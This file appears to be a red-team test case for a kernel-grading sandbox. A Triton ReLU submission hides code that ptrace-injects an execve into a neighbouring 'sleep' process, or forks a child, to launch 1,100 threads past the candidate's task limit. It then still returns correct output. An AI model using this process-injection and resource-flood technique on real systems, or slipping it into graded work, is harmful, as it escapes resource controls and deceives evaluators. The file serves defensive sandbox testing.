# expect: sandbox_violation
# rule: process_flood
# why: red team on the zygote: a forked candidate shares its pid namespace and uid with the holder's `sleep` (docs/trust-boundary.md, Warm workers). It ptraces that process into exec'ing a payload that starts 1,100 threads, over the candidate's 1,024 tasks, then answers correctly. When the holder was outside the candidate's cgroup the threads (and 9 GiB) ran unlimited and this came back `correct`; in the cgroup, pids.max refuses them and the counters name it. With no such process to borrow (a worker started by exec, another architecture, ptrace refused) it floods from a child of its own: the same verdict.
import ctypes
import os
import platform
import struct
import sys
import time

import torch
import torch.nn as nn
import triton
import triton.language as tl


@triton.jit
def relu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask)
    tl.store(out_ptr + offs, tl.maximum(x, 0.0), mask=mask)


def launch_relu(x, out):
    n = x.numel()
    relu_kernel[(triton.cdiv(n, 1024),)](x, out, n, BLOCK=1024)
    return out


PAYLOAD = r'''
import os, threading, time
ev = threading.Event()
n = 0
try:
    for _ in range(1100):
        threading.Thread(target=ev.wait, daemon=True).start()
        n += 1
except Exception:
    pass
open("flood.tmp", "w").write(str(n))
os.rename("flood.tmp", "flood.done")
time.sleep(2)
ev.set()
'''

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


class _Regs(ctypes.Structure):  # x86_64 user_regs_struct
    _fields_ = [(n, ctypes.c_ulonglong) for n in ("r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax "
                                                   "rip cs eflags rsp ss fs_base gs_base ds es fs gs").split()]


def _comm(pid):
    fd = _libc.open(f"/proc/{pid}/comm".encode(), 0)
    if fd < 0:
        return ""
    buf = ctypes.create_string_buffer(64)
    k = _libc.read(fd, buf, 64)
    _libc.close(fd)
    return buf.raw[:max(k, 0)].decode(errors="replace").strip()


def _inject_exec(pid, argv):
    """Makes `pid` (same uid, dumpable, blocked in a system call) execve(argv)."""
    if _libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
        return False
    st = ctypes.c_int()
    _libc.waitpid(pid, ctypes.byref(st), 0x40000000)  # __WALL
    regs = _Regs()
    if _libc.ptrace(12, pid, None, ctypes.byref(regs)) != 0:  # PTRACE_GETREGS
        _libc.ptrace(17, pid, None, None)
        return False
    base = (regs.rsp - 0x4000) & ~0xF
    ptrs, strs = [], b""
    for a in argv:
        ptrs.append(base + 8 * (len(argv) + 2) + len(strs))
        strs += a.encode() + b"\0"
    blob = b"".join(struct.pack("<Q", p) for p in ptrs) + struct.pack("<QQ", 0, 0) + strs
    blob += b"\0" * (-len(blob) % 8)
    for i in range(0, len(blob), 8):
        if _libc.ptrace(5, pid, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("<Q", blob[i:i + 8])[0])) != 0:
            _libc.ptrace(17, pid, None, None)
            return False
    regs.rip -= 2                    # back onto the syscall instruction it is blocked in
    regs.orig_rax = 2 ** 64 - 1      # no restart
    regs.rax = 59                    # execve(argv[0], argv, envp = the NULL after argv)
    regs.rdi, regs.rsi, regs.rdx = ptrs[0], base, base + 8 * len(argv)
    ok = _libc.ptrace(13, pid, None, ctypes.byref(regs)) == 0  # PTRACE_SETREGS
    _libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
    return ok


def _flood():
    borrowed = None
    if platform.machine() == "x86_64":
        borrowed = next((int(p) for p in os.listdir("/proc") if p.isdigit() and _comm(p) == "sleep"), None)
    if borrowed is None or not _inject_exec(borrowed, [sys.executable, "-I", "-c", PAYLOAD]):
        if os.fork() == 0:  # nothing to borrow: a child of its own does it
            try:
                exec(PAYLOAD, {})
            finally:
                os._exit(0)
    for _ in range(300):
        if os.path.exists("flood.done"):
            break
        time.sleep(0.1)


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self.flooded = False

    def forward(self, x):
        if not self.flooded:
            self.flooded = True
            _flood()
        return launch_relu(x, torch.empty_like(x))
